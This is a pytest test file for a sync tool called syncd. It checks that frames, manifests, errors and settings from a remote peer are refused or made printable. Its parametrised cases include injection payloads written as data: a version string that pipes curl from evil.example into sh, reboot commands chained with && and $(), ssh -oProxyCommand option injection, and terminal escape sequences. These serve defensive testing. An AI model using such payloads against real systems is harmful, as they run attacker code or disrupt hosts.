"""What another machine said is harmless from where it enters: frames, manifests, errors, the answers to `setup`."""

from __future__ import annotations

import json
import struct
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from policies import publish_one
from refused import refused

from syncd.access.survey import findings
from syncd.errors import DamagedPolicyError, RemoteError
from syncd.outbox import MAX_REASONS, OTHER_REASON, Outbox, read_contributions
from syncd.remote import Remote, Settings, load_settings, settings_file, store_settings
from syncd.store import Manifest, Shared, parse_manifest
from syncd.wire import protocol
from syncd.wire.protocol import Decoder, SegmentVerdict

EVIL = "\x1b]0;owned\x07\u202e\r\n"
MARK = "anchorleg-survey:"
ANYTHING = st.text(st.characters(exclude_categories=("Cs",)), max_size=100)


def heard(kind: type[protocol.Message], **header: object) -> Any:
    text = json.dumps(header).encode()
    [frame] = Decoder().feed(struct.pack(">IBH", 3 + len(text), kind.KIND, len(text)) + text)
    return frame.message


@given(ANYTHING)
def test_whatever_words_a_frame_brings_are_printable(words: str) -> None:
    refused = heard(protocol.SegmentRefused, sha256="a" * 64, reason=words, sentence=words, retry_after_s=None)
    goaway = heard(protocol.Goaway, reason=words, sentence=words, retry_after_s=None)
    verdicts = heard(protocol.Verdicts, verdicts=[{"sha256": "a" * 64, "accepted": False, "reason": words}])
    gone = heard(protocol.FileGone, key="1", sentence=words)
    texts = [refused.reason, refused.sentence, goaway.sentence, goaway.reason, verdicts.verdicts[0].reason]
    assert all(text.isprintable() and len(text) <= 2000 for text in [*texts, gone.sentence])


@given(ANYTHING)
def test_whatever_an_error_is_made_of_it_is_printable(words: str) -> None:
    assert str(RemoteError("peer.ends", sentence=words)).isprintable()
    assert str(DamagedPolicyError("policy.no-place", path=words)).isprintable()


@pytest.fixture(scope="module")
def manifest(tmp_path_factory: pytest.TempPathFactory) -> Manifest:
    return publish_one(Shared(tmp_path_factory.mktemp("shared")), 3, 17)


@pytest.mark.parametrize(
    ("section", "change"),
    [
        ("", {"run_name": EVIL}),
        ("", {EVIL: 1}),
        ("", {"created_at": -1e300}),
        ("suite", {"packages": {"metaworld": "3.1.1'; curl evil.example|sh; '"}}),
        ("suite", {"packages": {"mujoco": "3.3.0 && reboot"}}),
        ("suite", {"packages": {"metaworld": "$(reboot)"}}),
        ("suite", {"packages": {"metaworld": "3.1.1\n"}}),
        ("suite", {"packages": {EVIL: "3.1.1"}}),
        ("suite", {"version": EVIL}),
        ("suite", {"name": EVIL}),
        ("suite", {"settings": {"tasks": [EVIL]}}),
        ("suite", {"seed": 10**400}),
        ("policy", {"spaces": {"tasks": [EVIL]}}),
        ("policy", {"network": {EVIL: 1}}),
        ("policy", {"distribution": EVIL}),
        ("blob", {"encoding": EVIL}),
        ("blob", {"tensors": {EVIL: [8]}}),
        ("lineage", {"identity": EVIL}),
    ],
)
def test_a_manifest_with_words_that_are_none_is_refused(
    manifest: Manifest, section: str, change: dict[str, object]
) -> None:
    value = manifest.model_dump(mode="json")
    (value[section] if section else value).update(change)
    with pytest.raises(DamagedPolicyError) as caught:
        parse_manifest(json.dumps(value).encode())
    assert str(caught.value).isprintable()
    assert caught.value.id == "policy.bad-field"


def test_reasons_are_counted_and_no_more_of_them_kept_than_there_are(tmp_path: Path) -> None:
    outbox = Outbox(tmp_path)
    for number in range(3 * MAX_REASONS):
        outbox.offer("demo-0", 0, str(number).encode())
    paths = [each.path for each in outbox.waiting()]
    outbox.sent(paths)
    outbox.judged([SegmentVerdict(sha256=path.name, accepted=False, reason=f"reason {path.name}") for path in paths])
    counts = read_contributions(tmp_path)
    assert counts.refusals == 3 * MAX_REASONS
    assert len(counts.refused) == MAX_REASONS + 1
    assert counts.refused[OTHER_REASON] == 2 * MAX_REASONS


def answered(**said: str) -> str:
    lines = {"home": "/home/anna", "path": "/srv/run", "is": "shared", "syncd": "/opt/bin/syncd"} | said
    return "".join(f"{MARK}{name}:{value}\n" for name, value in lines.items())


@pytest.mark.parametrize("path", ["srv/run", "-oProxyCommand=x", "/srv/\x1b[2J", "/srv/\u202erun", "/" + "x" * 5000])
def test_a_folder_that_the_other_side_names_is_a_path(path: str) -> None:
    with pytest.raises(RemoteError) as caught:
        findings(answered(path=path), "run")
    assert str(caught.value).isprintable()


def test_settings_that_could_not_be_read_back_are_not_written(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path)}
    good = Settings(remote=Remote(path="/srv/run", host="cluster"))
    store_settings(good, env)
    for change in ({"path": "/srv/\x1b[2J"}, {"command": "syncd; reboot"}, {"host": "-oProxyCommand=x"}):
        assert good.remote is not None
        with refused("settings.not-stored"):
            store_settings(good.model_copy(update={"remote": good.remote.model_copy(update=change)}), env)
        assert load_settings(env) == good
    assert settings_file(env).exists()
